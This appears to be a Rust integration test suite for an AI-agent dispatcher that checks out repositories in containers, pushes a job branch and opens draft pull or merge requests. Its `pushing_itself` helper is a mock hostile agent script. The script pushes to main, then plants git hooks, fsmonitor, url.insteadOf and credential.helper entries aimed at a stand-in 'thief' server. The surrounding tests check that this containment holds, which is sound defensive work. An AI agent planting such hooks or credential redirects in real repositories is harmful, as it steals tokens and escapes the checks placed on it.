//! From a ticket to a pull request on the container backends: the project's repository
//! checked out from a real git server by a runner in a container (Docker) or a pod (the
//! Kubernetes test cluster), changed by an agent running as the image's user (10001),
//! committed with its trailers, pushed to the job's branch alone, and opened as a draft pull
//! request on the fake GitHub API; the token in no record and no workload's spec. On
//! Kubernetes, a retry after the runner was killed mid-run continues from the branch the
//! remote has. On both, the other endings too ([`the_other_endings`]): a GitLab label that
//! ends in a merge request, an agent that changed nothing (no push), pushes the git host
//! refuses (a protected branch, a wrong push token), and an agent that pushes on its own and
//! plants hooks and configuration (no credential, nothing run). The same flows on the
//! process backend are `checkout.rs`'s and `webhooks/pull_requests.rs`'s.
//!
//! The agents run in the real agent image (`Dockerfile.agent`, with git), not the busybox
//! test image: [`git_image`]. The git server listens where the workloads reach this machine
//! (the lab's callback host), as the dispatcher does.

use std::net::IpAddr;
use std::time::Duration;

use agentsmith::settings::{AgentSettings, CheckoutSettings, ProjectSettings, Settings};
use contract::{Change, PullRequest};
use k8s_openapi::api::batch::v1::Job;
use k8s_openapi::api::core::v1::Pod;
use kube::api::{Api, DeleteParams, ListParams};
use queue::JobState;
use secrecy::SecretString;
use serde_json::json;
use spawner::conformance::lab::{DockerLab, KubernetesLab};
use spawner::conformance::{Lab, KEEP_FINISHED};
use spawner::SpawnerKind;
use testkit::fake_api::FakeApi;
use testkit::git_server::GitServer;

use crate::checkout::basic;
use crate::helpers::{random_prefix, sh_agent, start, test_settings, TestApp};
use crate::webhooks::{send, to_gitlab, Sign, GITLAB_ANN, GITLAB_SECRET};

const GIT_TOKEN: &str = "git-token-for-containers-5e1d";
const GITHUB_TOKEN: &str = "ghp-test-token-for-containers";
const GITLAB_TOKEN: &str = "glpat-test-token-for-containers";
const WRONG_PUSH_TOKEN: &str = "wrong-push-token-for-containers-9c2b";
const DOCKER_LIMIT: Duration = Duration::from_secs(90);
const KUBERNETES_LIMIT: Duration = Duration::from_secs(180);

/// The agent image with git (`AGENTSMITH_TEST_GIT_IMAGE`), checked to be on the local
/// engine (the test cluster's node runs on it too); panics with the command that builds it.
fn git_image() -> String {
    const BUILD: &str = "cargo build -p agent-runner && \
         bash scripts/build-agent-image --dockerfile --tag agentsmith-agent:latest && \
         docker tag agentsmith-agent:latest agentsmith-agent:git-test && \
         export AGENTSMITH_TEST_GIT_IMAGE=agentsmith-agent:git-test (scripts/test does)";
    let image = std::env::var("AGENTSMITH_TEST_GIT_IMAGE")
        .unwrap_or_else(|_| panic!("AGENTSMITH_TEST_GIT_IMAGE is not set: {BUILD}"));
    let inspected = std::process::Command::new("docker")
        .args(["image", "inspect", "--format", "{{.Id}}", &image])
        .output()
        .unwrap_or_else(|e| panic!("running docker image inspect {image}: {e}"));
    assert!(
        inspected.status.success(),
        "image {image} is missing ({}): {BUILD}",
        String::from_utf8_lossy(&inspected.stderr).trim()
    );
    image
}

/// An agent profile running `script` with `sh -c` in [`git_image`].
fn git_agent(script: &str) -> AgentSettings {
    AgentSettings {
        image: git_image(),
        ..sh_agent(script)
    }
}

/// Says who it runs as, the branch its own git sees and whether it finds the earlier run's
/// notes; adds a line to the README and leaves a summary (the pull request's title).
const FIXING: &str = "echo \"uid: $(id -u)\"; echo \"branch: $(git branch --show-current)\"; \
     [ ! -f NOTES.md ] || echo \"found: $(cat NOTES.md)\"; \
     echo \"fixed by $AGENTSMITH_TICKET\" >> README.md; \
     printf '{\"summary\":\"Fix the empty cart\\\\n\\\\nThe cart kept its items.\"}' > \"$AGENTSMITH_RESULT_FILE\"";

/// A git server where `lab`'s workloads reach it, holding `shop.git` with a README on `main`.
async fn git_server_for(lab: &dyn Lab) -> GitServer {
    git_server_with(lab, "the shop\n").await
}

/// A git server where `lab`'s workloads reach it, holding `shop.git` with `readme` on `main`.
async fn git_server_with(lab: &dyn Lab, readme: &str) -> GitServer {
    let host = lab.callback_host();
    let ip: IpAddr = host
        .parse()
        .unwrap_or_else(|e| panic!("the lab's callback host {host} is not an address: {e}"));
    let git = GitServer::start_on(ip, GIT_TOKEN).await;
    git.create_repo("shop", &[("README.md", readme)], "main");
    git
}

/// Settings bound where `lab`'s workloads reach the dispatcher, with project `shop` at
/// `git`'s `shop.git` (pull requests to `acme/shop` on `fake`) run by `agent`.
fn settings_for(lab: &dyn Lab, git: &GitServer, fake: &FakeApi, agent: AgentSettings) -> Settings {
    let mut s = test_settings(&random_prefix());
    s.server.bind = format!("{}:0", lab.callback_host());
    s.server.installation = lab.installation().to_string();
    s.spawner.reconcile_secs = 1;
    s.sources.github.token = SecretString::from(GITHUB_TOKEN);
    s.sources.github.api_base_url = fake.url.clone();
    s.agents.insert("fixing".into(), agent);
    s.projects.insert(
        "shop".into(),
        ProjectSettings {
            repo: git.url("shop"),
            agent: "fixing".into(),
            github_repos: vec!["acme/shop".into()],
            checkout: CheckoutSettings {
                token: SecretString::from(GIT_TOKEN),
                ..Default::default()
            },
            ..Default::default()
        },
    );
    let problems = s.validate();
    assert!(
        problems.is_empty(),
        "the test settings are valid: {problems:?}"
    );
    s
}

/// Submits a job for project `shop` and `ticket`; its id.
async fn submit(app: &TestApp, ticket: &str) -> String {
    submit_to(app, "shop", None, ticket).await
}

/// Submits a job for `project` and `ticket`, run by `agent` (none: the project's); its id.
async fn submit_to(app: &TestApp, project: &str, agent: Option<&str>, ticket: &str) -> String {
    let mut request = json!({"project": project, "task": "fix the cart", "ticket": ticket});
    if let Some(agent) = agent {
        request["agent"] = json!(agent);
    }
    let (status, body) = app.post_job(request).await;
    assert_eq!(status, 202, "{body}");
    body["id"].as_str().unwrap().to_string()
}

/// Checks a job that ended with its change pushed to `agentsmith/<ticket>` and a draft pull
/// request opened from it, `main` untouched, and neither the token nor its encoded
/// credential in the job's record, its events or `workload` (the spec it ran with).
async fn assert_pushed_with_a_pull_request(
    app: &TestApp,
    git: &GitServer,
    fake: &FakeApi,
    id: &str,
    ticket: &str,
    main_before: &[(String, String)],
    workload: &str,
) -> queue::Job {
    let job = app.job(id).await;
    let lines = app.log_lines(id).await;
    assert_eq!(job.state, JobState::Succeeded, "{job:#?}\n{lines:#?}");
    assert!(
        lines.iter().any(|l| l == "uid: 10001"),
        "the agent ran as the image's user: {lines:#?}"
    );
    let branch = format!("agentsmith/{ticket}");
    // The agent's own git works in the tree the runner checked out.
    assert!(
        lines.iter().any(|l| *l == format!("branch: {branch}")),
        "{lines:#?}"
    );
    let branches = git.branches("shop");
    let pushed = branches
        .iter()
        .find(|(name, _)| *name == branch)
        .unwrap_or_else(|| panic!("no working branch on the remote: {branches:?}"));
    // The push named the working branch alone: the base is as it was, and nothing else came.
    let others: Vec<_> = branches
        .iter()
        .filter(|(name, _)| *name != branch)
        .collect();
    assert_eq!(others, main_before.iter().collect::<Vec<_>>());
    // Matched field by field, so a field added to the change later needs no edit here.
    let Some(Change::Pushed {
        branch: pushed_branch,
        base_branch,
        commit,
        files,
        insertions,
        deletions,
        pull_request,
        pull_request_error,
        compare_url,
        ..
    }) = &job.change
    else {
        panic!("no push: {job:#?}\n{lines:#?}");
    };
    assert_eq!(
        (pushed_branch, base_branch.as_str(), commit),
        (&branch, "main", &pushed.1)
    );
    assert_eq!((*files, *insertions, *deletions), (1, 1, 0));
    assert_eq!(
        pull_request.as_deref(),
        Some(&PullRequest {
            provider: "github".into(),
            number: 1,
            url: "https://github.example/acme/shop/pull/1".into(),
            opened: true,
        }),
        "{pull_request_error:?}"
    );
    assert_eq!(compare_url, &None);
    let readme = git.file_at("shop", &branch, "README.md").unwrap();
    assert!(
        readme.starts_with("the shop\n") && readme.ends_with(&format!("fixed by {ticket}\n")),
        "{readme}"
    );
    let message = git.log("shop", &branch);
    assert!(
        message.starts_with("Fix the empty cart\n\nThe cart kept its items.\n"),
        "{message}"
    );
    assert!(
        message.contains(&format!(
            "Agentsmith-Job: {id}\nAgentsmith-Ticket: {ticket}"
        )),
        "{message}"
    );
    // The pull request, from the branch to the base, as a draft.
    let prs = fake.pull_requests("acme/shop");
    assert_eq!(prs.len(), 1, "{prs:#?}");
    assert_eq!(prs[0]["head"]["ref"], branch.as_str());
    assert_eq!(prs[0]["base"]["ref"], "main");
    assert_eq!(prs[0]["draft"], true);
    assert_eq!(prs[0]["title"], "Fix the empty cart");
    // The runner in the workload authenticated, read and pushed.
    let requests = git.requests();
    assert!(
        requests
            .iter()
            .any(|r| r.accepted && r.method == "POST" && r.path == "/shop.git/git-receive-pack"),
        "{requests:?}"
    );
    let encoded = basic("x-access-token", GIT_TOKEN);
    let events = app.events_text(id).await;
    let record = serde_json::to_string(&job).unwrap();
    for (what, text) in [
        ("the events", &events),
        ("the record", &record),
        ("the workload's spec", &workload.to_string()),
    ] {
        assert!(
            !text.contains(GIT_TOKEN) && !text.contains(&encoded),
            "the token is in {what}"
        );
    }
    job
}

/// Runs `settings`' jobs in containers of `lab`'s.
fn in_docker(lab: &DockerLab, settings: &mut Settings) {
    settings.spawner.kind = SpawnerKind::Docker;
    settings.spawner.docker = lab.settings(KEEP_FINISHED);
}

/// `docker inspect` of a container, as text.
fn docker_inspect(name: &str) -> String {
    let output = std::process::Command::new("docker")
        .args(["inspect", name])
        .output()
        .unwrap();
    assert!(output.status.success(), "docker inspect {name}");
    String::from_utf8_lossy(&output.stdout).into_owned()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "needs a Docker engine and the agent image with git: scripts/build-agent-image --dockerfile (AGENTSMITH_TEST_GIT_IMAGE)"]
async fn in_docker_a_fix_is_checked_out_pushed_to_its_branch_and_opened_as_a_draft_pull_request() {
    let lab = DockerLab::new().await;
    let git = git_server_for(&lab).await;
    let fake = FakeApi::start().await;
    let mut settings = settings_for(&lab, &git, &fake, git_agent(FIXING));
    settings.queue.max_attempts = 1;
    in_docker(&lab, &mut settings);
    let main_before = git.branches("shop");
    let app = start(settings, None).await;

    let id = submit(&app, "SHOP-21").await;
    let job = app.wait_for_end(&id, DOCKER_LIMIT).await;
    let container = job.handle.as_ref().map(|h| docker_inspect(&h.name));
    let job = assert_pushed_with_a_pull_request(
        &app,
        &git,
        &fake,
        &id,
        "SHOP-21",
        &main_before,
        &container.unwrap_or_default(),
    )
    .await;
    assert!(job.handle.is_some(), "the job records its container");
    app.stop().await;
}

/// The Job (with its pod template) that ran a job's attempt, as JSON.
async fn kubernetes_job(lab: &KubernetesLab, name: &str) -> String {
    let jobs: Api<Job> = Api::namespaced(lab.client().await, lab.namespace());
    serde_json::to_string(&jobs.get(name).await.unwrap()).unwrap()
}

/// Settings for the test cluster: the lab's namespace, and time for pods to start.
fn kubernetes_settings(
    lab: &KubernetesLab,
    git: &GitServer,
    fake: &FakeApi,
    agent: AgentSettings,
) -> Settings {
    let mut settings = settings_for(lab, git, fake, agent);
    on_kubernetes(lab, &mut settings);
    settings
}

/// Runs `settings`' jobs on the test cluster, in `lab`'s namespace, with time for pods to
/// start.
fn on_kubernetes(lab: &KubernetesLab, settings: &mut Settings) {
    settings.queue.start_timeout_secs = 60;
    settings.spawner.kind = SpawnerKind::Kubernetes;
    settings.spawner.kubernetes = lab.settings(KEEP_FINISHED);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "needs the test cluster: scripts/k8s-testenv/start.sh and AGENTSMITH_TEST_KUBECONFIG; and the agent image with git (AGENTSMITH_TEST_GIT_IMAGE)"]
async fn on_kubernetes_a_fix_is_checked_out_pushed_to_its_branch_and_opened_as_a_draft_pull_request(
) {
    let lab = KubernetesLab::new().await;
    let git = git_server_for(&lab).await;
    let fake = FakeApi::start().await;
    let mut settings = kubernetes_settings(&lab, &git, &fake, git_agent(FIXING));
    settings.queue.max_attempts = 1;
    let main_before = git.branches("shop");
    let app = start(settings, None).await;

    let id = submit(&app, "SHOP-22").await;
    let job = app.wait_for_end(&id, KUBERNETES_LIMIT).await;
    let spec = match &job.handle {
        Some(handle) => kubernetes_job(&lab, &handle.name).await,
        None => String::new(),
    };
    let job =
        assert_pushed_with_a_pull_request(&app, &git, &fake, &id, "SHOP-22", &main_before, &spec)
            .await;
    assert!(job.handle.is_some(), "the job records its Job");
    app.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "needs the test cluster: scripts/k8s-testenv/start.sh and AGENTSMITH_TEST_KUBECONFIG; and the agent image with git (AGENTSMITH_TEST_GIT_IMAGE)"]
async fn on_kubernetes_a_retry_after_the_runner_was_killed_continues_from_the_pushed_branch() {
    let lab = KubernetesLab::new().await;
    let git = git_server_for(&lab).await;
    // An earlier run pushed its work to the job's branch.
    let earlier = git.commit(
        "shop",
        "agentsmith/SHOP-23",
        &[("NOTES.md", "notes of the earlier run\n")],
        "Earlier run",
    );
    let main_before: Vec<_> = git
        .branches("shop")
        .into_iter()
        .filter(|(name, _)| name == "main")
        .collect();
    let fake = FakeApi::start().await;
    // The first attempt is checked out, then runs until its Job is deleted; its time limit
    // is longer than the test waits, so only that can end it.
    let agent = AgentSettings {
        timeout_secs: 600,
        ..git_agent(&format!(
            "echo \"attempt $AGENTSMITH_ATTEMPT on $(git branch --show-current)\"; \
             if [ \"$AGENTSMITH_ATTEMPT\" = 1 ]; then sleep 600; fi; {FIXING}"
        ))
    };
    let mut settings = kubernetes_settings(&lab, &git, &fake, agent);
    settings.queue.max_attempts = 3;
    let app = start(settings, None).await;
    let client = lab.client().await;

    let id = submit(&app, "SHOP-23").await;
    // Attempt 1 checked out the branch and its agent runs (or the job ended without that).
    let on_branch = "attempt 1 on agentsmith/SHOP-23";
    crate::helpers::wait_until(KUBERNETES_LIMIT, || async {
        app.job(&id).await.state.is_terminal()
            || app.log_lines(&id).await.iter().any(|l| l == on_branch)
    })
    .await;
    let lines = app.log_lines(&id).await;
    assert!(
        lines.iter().any(|l| l == on_branch),
        "attempt 1 never ran its agent on the branch: {:#?}\n{lines:#?}",
        app.job(&id).await
    );
    // The runner is killed mid-run: its Job deleted by hand, and its pod with it, as the
    // garbage collector would (see kubernetes.rs).
    let handle = app.job(&id).await.handle.expect("attempt 1 has a Job");
    let jobs: Api<Job> = Api::namespaced(client.clone(), lab.namespace());
    jobs.delete(&handle.name, &DeleteParams::background())
        .await
        .unwrap();
    let pods: Api<Pod> = Api::namespaced(client, lab.namespace());
    pods.delete_collection(
        &DeleteParams::default(),
        &ListParams::default().labels(&format!("{}={id}", contract::labels::JOB_ID)),
    )
    .await
    .unwrap();

    let job = app.wait_for_end(&id, KUBERNETES_LIMIT).await;
    let lines = app.log_lines(&id).await;
    assert_eq!(job.state, JobState::Succeeded, "{job:#?}\n{lines:#?}");
    assert!(job.attempt >= 2, "the killed attempt was retried: {job:#?}");
    let reasons = app.state_reasons(&id).await;
    assert!(
        reasons
            .iter()
            .any(|r| r.contains("workload not found") || r.contains("runner")),
        "{reasons:?}"
    );
    // The retry found the earlier run's commit and built on it.
    assert!(
        lines
            .iter()
            .any(|l| l.contains("continuing from its branch agentsmith/SHOP-23")),
        "{lines:#?}"
    );
    assert!(
        lines.iter().any(|l| l == "found: notes of the earlier run"),
        "{lines:#?}"
    );
    let spec = kubernetes_job(&lab, &job.handle.as_ref().unwrap().name).await;
    assert_pushed_with_a_pull_request(&app, &git, &fake, &id, "SHOP-23", &main_before, &spec).await;
    let commits = git.commits("shop", "agentsmith/SHOP-23");
    assert_eq!(
        commits.get(1),
        Some(&earlier),
        "the push lands on top of the earlier commit: {commits:?}"
    );
    assert_eq!(
        git.file_at("shop", "agentsmith/SHOP-23", "NOTES.md")
            .as_deref(),
        Some("notes of the earlier run\n")
    );
    let log = git.log("shop", "agentsmith/SHOP-23");
    assert!(
        log.contains("Fix the empty cart") && log.contains("Earlier run"),
        "{log}"
    );
    app.stop().await;
}

/// Changes nothing, and says what its git sees.
const IDLE: &str = "echo \"branch: $(git branch --show-current)\"; git status --porcelain";

/// Commits a change and pushes it itself, to the base branch and to its own; then plants
/// hooks and configuration that would make the runner's git reach `thief` (a second git
/// server, listening as the real one does) in place of `repo`, and leaves a file uncommitted.
fn pushing_itself(repo: &str, thief: &str) -> String {
    format!(
        "echo 'agent change' >> README.md; git add README.md; git commit -qm mine; \
         git push origin HEAD:main; echo \"own push to main: $?\"; \
         git push origin HEAD:refs/heads/agentsmith/SHOP-34; echo \"own push to its branch: $?\"; \
         for hook in pre-commit pre-push post-commit reference-transaction; do \
           printf '#!/bin/sh\\ngit ls-remote {thief}\\n' > .git/hooks/$hook; chmod +x .git/hooks/$hook; done; \
         git config core.fsmonitor 'git ls-remote {thief}'; \
         git config url.{thief}.insteadOf {repo}; \
         git config credential.helper '!git ls-remote {thief}; echo'; \
         echo 'uncommitted too' > EXTRA.md"
    )
}

/// GitLab's Issue Hook: Ann (a Developer of `acme/shop`, [`GITLAB_ANN`]) added the `agent`
/// label to issue `iid`.
fn gitlab_labelled(iid: u64) -> serde_json::Value {
    let bug = json!({"id": 206, "title": "bug", "color": "#d9534f", "project_id": 5});
    let agent = json!({"id": 207, "title": "agent", "color": "#428bca", "project_id": 5});
    json!({
        "object_kind": "issue",
        "event_type": "issue",
        "user": {"id": GITLAB_ANN, "name": "Ann", "username": "ann"},
        "project": {"id": 5, "name": "shop", "path_with_namespace": "acme/shop",
                    "web_url": "https://gitlab.example/acme/shop"},
        "object_attributes": {
            "id": 92, "iid": iid, "title": "Cart is empty after login",
            "description": "Log in with items in the cart.", "state": "opened",
            "action": "update",
            "url": format!("https://gitlab.example/acme/shop/-/issues/{iid}")
        },
        "labels": [bug, agent],
        "changes": {"labels": {"previous": [bug], "current": [bug, agent]}}
    })
}

/// The endings other than a GitHub pull request, all at once on one dispatcher whose jobs
/// `backend` places in `lab`: a GitLab label ends in a draft merge request; an agent that
/// changed nothing, in no push and no pull request; a push the host refuses (a protected
/// branch, a wrong push token), in a failure quoting the host; an agent that pushes on its
/// own finds no credential, and nothing it planted runs when the runner pushes its work.
/// The base branch is untouched throughout, and no token is in any job's record or events.
async fn the_other_endings(lab: &dyn Lab, backend: impl FnOnce(&mut Settings), limit: Duration) {
    let git = git_server_for(lab).await;
    let thief = git_server_with(lab, "the thief's\n").await;
    git.protect_branch("shop", "agentsmith/SHOP-32");
    let fake = FakeApi::start().await;
    let mut settings = other_endings_settings(lab, &git, &thief, &fake);
    backend(&mut settings);
    let main_before = git.branches("shop");
    let app = start(settings, None).await;

    let labelled = gitlab_labelled(4).to_string();
    let (status, answer) = send(to_gitlab(
        &app,
        Sign::Right,
        "Issue Hook",
        "5b0c7e2a-4c1d-4f6e-8a9b-1c2d3e4f5a6b",
        labelled.as_bytes(),
    ))
    .await;
    assert_eq!(status, 202, "{answer}");
    let merged = answer["job_id"].as_str().unwrap().to_string();
    let idle = submit_to(&app, "shop", Some("idle"), "SHOP-31").await;
    let protected = submit(&app, "SHOP-32").await;
    let wrong_token = submit_to(&app, "shop-pushed-with-a-wrong-token", None, "SHOP-33").await;
    let pushing = submit_to(&app, "shop", Some("pushing"), "SHOP-34").await;
    let ids = [&merged, &idle, &protected, &wrong_token, &pushing];
    for id in ids {
        app.wait_for_end(id, limit).await;
    }
    // The base branch is as it was, whatever the agents tried.
    let main_after: Vec<_> = git
        .branches("shop")
        .into_iter()
        .filter(|(name, _)| name == "main")
        .collect();
    assert_eq!(main_after, main_before);

    assert_a_draft_merge_request(&app, &git, &fake, &merged, limit).await;
    assert_nothing_pushed(&app, &git, &fake, &idle).await;
    assert_push_refused(
        &app,
        &git,
        &fake,
        &protected,
        "agentsmith/SHOP-32",
        "remote: branch agentsmith/SHOP-32 is protected",
    )
    .await;
    assert_push_refused(
        &app,
        &git,
        &fake,
        &wrong_token,
        "agentsmith/SHOP-33",
        "remote: a token is needed",
    )
    .await;
    // The checkout read with the read token; the host refused the push token.
    let requests = git.requests();
    assert!(
        requests
            .iter()
            .any(|r| !r.accepted && r.status == 401 && r.path.contains("git-receive-pack")),
        "{requests:?}"
    );
    assert_own_pushes_went_nowhere(&app, &git, &thief, &pushing).await;
    for id in ids {
        assert_no_token_in_the_job(&app, id).await;
    }
    app.stop().await;
}

/// The settings of [`the_other_endings`], checked as a configuration file would be: project
/// `shop` (pull requests on GitHub) with the agents `idle` and `pushing` besides its own;
/// `shop-on-gitlab`, the same repository with merge requests on GitLab (where Ann may
/// trigger); `shop-pushed-with-a-wrong-token`, the same again with a push token the host
/// refuses. One attempt per job.
fn other_endings_settings(
    lab: &dyn Lab,
    git: &GitServer,
    thief: &GitServer,
    fake: &FakeApi,
) -> Settings {
    fake.grant_gitlab("acme/shop", GITLAB_ANN, 30);
    let mut settings = settings_for(lab, git, fake, git_agent(FIXING));
    settings.queue.max_attempts = 1;
    settings.agents.insert("idle".into(), git_agent(IDLE));
    settings.agents.insert(
        "pushing".into(),
        git_agent(&pushing_itself(&git.url("shop"), &thief.url("shop"))),
    );
    let gitlab = &mut settings.sources.gitlab;
    gitlab.enabled = true;
    gitlab.webhook_token = SecretString::from(GITLAB_SECRET);
    gitlab.token = SecretString::from(GITLAB_TOKEN);
    gitlab.api_base_url = fake.url.clone();
    let shop = settings.projects["shop"].clone();
    let on_gitlab = ProjectSettings {
        github_repos: Vec::new(),
        gitlab_projects: vec!["acme/shop".into()],
        ..shop.clone()
    };
    let mut wrong_push_token = ProjectSettings {
        github_repos: Vec::new(),
        ..shop
    };
    wrong_push_token.checkout.push_token = SecretString::from(WRONG_PUSH_TOKEN);
    settings.projects.insert("shop-on-gitlab".into(), on_gitlab);
    settings
        .projects
        .insert("shop-pushed-with-a-wrong-token".into(), wrong_push_token);
    // Checked before the backend is chosen: the harness's own agents, which these jobs
    // leave alone, have no image.
    let problems = settings.validate();
    assert!(
        problems.is_empty(),
        "the test settings are valid: {problems:?}"
    );
    settings
}

/// Whether a pull request on GitHub's `acme/shop` comes from `branch`.
fn pull_request_from(fake: &FakeApi, branch: &str) -> bool {
    fake.pull_requests("acme/shop")
        .iter()
        .any(|pr| pr["head"]["ref"] == branch)
}

/// Checks the job of GitLab issue 4's label: run as the image's user on the ticket's
/// branch, pushed, a draft merge request opened from it with GitLab's token, and the issue
/// told so.
async fn assert_a_draft_merge_request(
    app: &TestApp,
    git: &GitServer,
    fake: &FakeApi,
    id: &str,
    limit: Duration,
) {
    let job = app.job(id).await;
    let lines = app.log_lines(id).await;
    assert_eq!(job.state, JobState::Succeeded, "{job:#?}\n{lines:#?}");
    assert!(lines.iter().any(|l| l == "uid: 10001"), "{lines:#?}");
    assert!(
        lines.iter().any(|l| l == "branch: agentsmith/acme-shop-4"),
        "{lines:#?}"
    );
    let Some(Change::Pushed {
        branch,
        pull_request,
        pull_request_error,
        ..
    }) = &job.change
    else {
        panic!("no push: {job:#?}\n{lines:#?}");
    };
    assert_eq!(branch, "agentsmith/acme-shop-4");
    assert_eq!(
        pull_request.as_deref(),
        Some(&PullRequest {
            provider: "gitlab".into(),
            number: 1,
            url: "https://gitlab.example/acme/shop/-/merge_requests/1".into(),
            opened: true,
        }),
        "{pull_request_error:?}"
    );
    assert_eq!(
        git.file_at("shop", "agentsmith/acme-shop-4", "README.md")
            .as_deref(),
        Some("the shop\nfixed by acme/shop#4\n")
    );
    let mrs = fake.merge_requests("acme/shop");
    assert_eq!(mrs.len(), 1, "{mrs:#?}");
    assert_eq!(mrs[0]["source_branch"], "agentsmith/acme-shop-4");
    assert_eq!(mrs[0]["target_branch"], "main");
    assert_eq!(mrs[0]["draft"], true);
    assert_eq!(mrs[0]["title"], "Draft: Fix the empty cart");
    let opened = fake.requests_to("/projects/acme%2Fshop/merge_requests");
    assert!(
        opened
            .iter()
            .any(|r| r.body["source_branch"] == "agentsmith/acme-shop-4"
                && r.header("private-token") == Some(GITLAB_TOKEN)),
        "the merge request is opened with the PRIVATE-TOKEN"
    );
    fake.wait_for("the Finished note", limit, |r| {
        r.path == "/projects/acme%2Fshop/issues/4/notes"
            && r.text().contains(&format!("Finished {id}"))
            && r.text().contains("Merge request !1 opened")
    })
    .await;
}

/// Checks the job of an agent that changed nothing: succeeded with no commit, no push and
/// no pull request.
async fn assert_nothing_pushed(app: &TestApp, git: &GitServer, fake: &FakeApi, id: &str) {
    let job = app.job(id).await;
    let lines = app.log_lines(id).await;
    assert_eq!(job.state, JobState::Succeeded, "{job:#?}\n{lines:#?}");
    assert_eq!(job.change, Some(Change::NoChanges), "{lines:#?}");
    assert!(
        lines.iter().any(|l| l == "branch: agentsmith/SHOP-31"),
        "{lines:#?}"
    );
    assert!(
        lines
            .iter()
            .any(|l| l.contains("the agent changed nothing")),
        "{lines:#?}"
    );
    let branches = git.branches("shop");
    assert!(
        !branches
            .iter()
            .any(|(name, _)| name == "agentsmith/SHOP-31"),
        "{branches:?}"
    );
    assert!(!pull_request_from(fake, "agentsmith/SHOP-31"));
}

/// Checks the job whose push to `branch` the host refused: the agent ran on its checkout,
/// and the job failed with the host's words (`says`), nothing pushed and nothing opened.
async fn assert_push_refused(
    app: &TestApp,
    git: &GitServer,
    fake: &FakeApi,
    id: &str,
    branch: &str,
    says: &str,
) {
    let job = app.job(id).await;
    let lines = app.log_lines(id).await;
    assert_eq!(job.state, JobState::Failed, "{job:#?}\n{lines:#?}");
    let reason = job.reason.clone().unwrap_or_default();
    assert!(
        reason.contains("the push failed") && reason.contains(says),
        "{reason}"
    );
    assert_eq!(job.change, None);
    assert!(
        lines.iter().any(|l| *l == format!("branch: {branch}")),
        "the agent ran on its checkout: {lines:#?}"
    );
    let branches = git.branches("shop");
    assert!(
        !branches.iter().any(|(name, _)| name == branch),
        "{branches:?}"
    );
    assert!(!pull_request_from(fake, branch));
}

/// Checks the job of the agent that pushed on its own ([`pushing_itself`]): its pushes
/// found no credential; the runner pushed its commit and the rest to its branch alone, and
/// nothing it planted ran (the thief was never asked).
async fn assert_own_pushes_went_nowhere(
    app: &TestApp,
    git: &GitServer,
    thief: &GitServer,
    id: &str,
) {
    let job = app.job(id).await;
    let lines = app.log_lines(id).await;
    assert_eq!(job.state, JobState::Succeeded, "{job:#?}\n{lines:#?}");
    assert!(
        lines.iter().any(|l| l == "own push to main: 128"),
        "{lines:#?}"
    );
    assert!(
        lines.iter().any(|l| l == "own push to its branch: 128"),
        "{lines:#?}"
    );
    assert!(
        matches!(job.change, Some(Change::Pushed { .. })),
        "{job:#?}"
    );
    assert_eq!(
        git.file_at("shop", "agentsmith/SHOP-34", "EXTRA.md")
            .as_deref(),
        Some("uncommitted too\n")
    );
    assert!(git.log("shop", "agentsmith/SHOP-34").contains("mine"));
    assert!(thief.requests().is_empty(), "{:?}", thief.requests());
}

/// Checks that no token of [`the_other_endings`], nor its encoded credential, is in the
/// job's record or events.
async fn assert_no_token_in_the_job(app: &TestApp, id: &str) {
    let events = app.events_text(id).await;
    let record = serde_json::to_string(&app.job(id).await).unwrap();
    for token in [GIT_TOKEN, WRONG_PUSH_TOKEN, GITLAB_TOKEN] {
        let encoded = basic("x-access-token", token);
        for (what, text) in [("events", &events), ("record", &record)] {
            assert!(
                !text.contains(token) && !text.contains(&encoded),
                "a token is in job {id}'s {what}"
            );
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "needs a Docker engine and the agent image with git: scripts/build-agent-image --dockerfile (AGENTSMITH_TEST_GIT_IMAGE)"]
async fn in_docker_a_gitlab_label_opens_a_merge_request_and_no_change_refused_pushes_and_the_agents_own_pushes_go_nowhere(
) {
    let lab = DockerLab::new().await;
    the_other_endings(&lab, |s| in_docker(&lab, s), DOCKER_LIMIT).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "needs the test cluster: scripts/k8s-testenv/start.sh and AGENTSMITH_TEST_KUBECONFIG; and the agent image with git (AGENTSMITH_TEST_GIT_IMAGE)"]
async fn on_kubernetes_a_gitlab_label_opens_a_merge_request_and_no_change_refused_pushes_and_the_agents_own_pushes_go_nowhere(
) {
    let lab = KubernetesLab::new().await;
    the_other_endings(&lab, |s| on_kubernetes(&lab, s), KUBERNETES_LIMIT).await;
}
